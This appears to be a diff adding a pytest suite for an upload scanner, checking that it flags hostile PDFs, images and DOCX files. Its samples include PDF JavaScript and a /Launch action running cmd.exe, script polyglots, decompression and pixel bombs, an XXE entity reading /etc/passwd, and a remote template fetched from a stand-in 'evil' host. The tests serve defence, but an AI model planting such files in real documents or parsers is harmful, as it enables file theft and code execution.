@@ -1,0 +1,121 @@
+"""Hostile files, each made here: bombs, two types at once, active documents."""
+
+import random
+import struct
+import zipfile
+import zlib
+from io import BytesIO
+
+import pytest
+from common.dangers import MOST_ENTRIES, Danger, danger
+from PIL import Image
+
+PDF, PNG, JPEG, DOCX = (
+    "application/pdf",
+    "image/png",
+    "image/jpeg",
+    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+)
+QUIET = b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n%%EOF\n"
+
+
+def picture(kind: str, size: tuple[int, int] = (8, 8)) -> bytes:
+    target = BytesIO()
+    Image.new("RGB", size, "teal").save(target, kind)
+    return target.getvalue()
+
+
+def archive(parts: dict[str, bytes], *, packed: bool = True) -> bytes:
+    target = BytesIO()
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as made:
+        for name, content in parts.items():
+            made.writestr(name, content)
+    return target.getvalue()
+
+
+def docx(**parts: bytes) -> bytes:
+    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | parts)
+
+
+def stream(objects: bytes, *, told: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
+    packed = zlib.compress(objects)
+    return b"%PDF-1.7\n5 0 obj <<" + told + b">> stream\n" + packed + b"\nendstream endobj\n%%EOF"
+
+
+def png(width: int, height: int) -> bytes:
+    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header))
+
+
+def jpeg(width: int, height: int) -> bytes:
+    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\1\1\0\0\1\0\1\0\0"
+    return b"\xff\xd8" + app0 + b"\xff\xff\xc2" + struct.pack(">HBHHB", 8, 8, height, width, 3)
+
+
+def heic(width: int, height: int) -> bytes:
+    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x14ispe" + struct.pack(">III", 0, width, height)
+
+
+@pytest.mark.parametrize(
+    ("content", "content_type"),
+    [
+        (QUIET, PDF),
+        (stream(b"1 0 2 10 <</Type /Page>> <</Type /Font>>"), PDF),
+        (b"%PDF-1.7\n" + random.Random(7).randbytes(3_000_000), PDF),
+        (QUIET + b"PK\x05\x06 by chance " + b"x" * 100, PDF),
+        (picture("PNG"), PNG),
+        (picture("JPEG"), JPEG),
+        (picture("WEBP"), "image/webp"),
+        (picture("GIF"), "image/gif"),
+        (png(10_000, 5_000), PNG),
+        (jpeg(8_000, 6_000), JPEG),
+        (heic(8064, 6048), "image/heic"),
+        (docx(), DOCX),
+        (docx(**{"word/media/a.bin": bytes(5_000_000)}), DOCX),
+        ("АД 120/80\n".encode(), "text/plain"),
+    ],
+)
+def test_an_ordinary_file_passes(content: bytes, content_type: str) -> None:
+    assert danger(BytesIO(content), content_type) is None
+
+
+@pytest.mark.parametrize(
+    ("content", "content_type", "found"),
+    [
+        (QUIET + b"/S /JavaScript /JS (app.alert(1))", PDF, Danger.ACTIVE),
+        (QUIET + b"/S /J#61vaScript", PDF, Danger.ACTIVE),
+        (QUIET + b"<</S /Launch /F (cmd.exe)>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</Names <</EmbeddedFiles 5 0 R>>>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</Type /EmbeddedFile>>", PDF, Danger.ACTIVE),
+        (QUIET + b"/AcroForm <</XFA [(a) 1 0 R]>>", PDF, Danger.ACTIVE),
+        (stream(b"1 0 <</S /JavaScript /JS (x)>>"), PDF, Danger.ACTIVE),
+        (stream(b"1 0 <</S /JavaScript>>", told=b"/Type /Obj#53tm"), PDF, Danger.ACTIVE),
+        (stream(b"not objects", told=b"/Encrypt 1 0 R /Type /ObjStm"), PDF, Danger.ENCRYPTED),
+        (stream(b"1 0 " + b" " * 70_000_000), PDF, Danger.UNPACKS_TOO_LARGE),
+        (QUIET + archive({"evil.js": b"alert(1)"}), PDF, Danger.POLYGLOT),
+        (QUIET + archive({"a": b"b"})[:-2] + b"\x0a\0" + b"c" * 10, PDF, Danger.POLYGLOT),
+        (b"%PDF-1.7\n<script>alert(1)</script>", PDF, Danger.POLYGLOT),
+        (b"GIF89a/*\x08\0\x80\0\0*/=1;alert(1)", "image/gif", Danger.POLYGLOT),
+        (picture("JPEG") + archive({"a.class": b"x"}), JPEG, Danger.POLYGLOT),
+        (picture("PNG") + archive({"a": b"x"}), PNG, Danger.POLYGLOT),
+        (png(50_000, 50_000), PNG, Danger.TOO_MANY_PIXELS),
+        (jpeg(65_000, 1_000), JPEG, Danger.TOO_MANY_PIXELS),
+        (heic(20_000, 20_000), "image/heic", Danger.TOO_MANY_PIXELS),
+        (b"RIFF\0\0\0\0WEBPVP8X" + b"\0" * 8 + b"\xff\xff\0" * 2, "image/webp", Danger.TOO_MANY_PIXELS),
+        (b"GIF89a" + struct.pack("<HH", 60_000, 60_000), "image/gif", Danger.TOO_MANY_PIXELS),
+        (b"\xff\xd8\xff", JPEG, Danger.UNREADABLE),
+        (b"\x89PNG\r\n\x1a\n", PNG, Danger.UNREADABLE),
+        (docx(**{"word/a.xml": bytes(250 * 1024 * 1024)}), DOCX, Danger.UNPACKS_TOO_LARGE),
+        (docx(**{"word/a.bin": bytes(20 * 1024 * 1024)}), DOCX, Danger.UNPACKS_TOO_LARGE),
+        (archive({f"{n}": b"" for n in range(MOST_ENTRIES + 1)}), DOCX, Danger.TOO_MANY_PARTS),
+        (docx(**{"word/vbaProject.bin": b"x"}), DOCX, Danger.ACTIVE),
+        (docx(**{"word/x.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'}), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (docx(**{"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}), DOCX, Danger.OUTSIDE_REFERENCES),
+        (docx(**{"word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
+                 b'Target="http://evil/a.dotm" TargetMode="External"/>'}), DOCX, Danger.OUTSIDE_REFERENCES),
+        (b"PK\3\4 nothing", DOCX, Danger.UNREADABLE),
+    ],
+)  # fmt: skip
+def test_a_dangerous_file_is_named_for_its_danger(content: bytes, content_type: str, found: Danger) -> None:
+    assert danger(BytesIO(content), content_type) is found
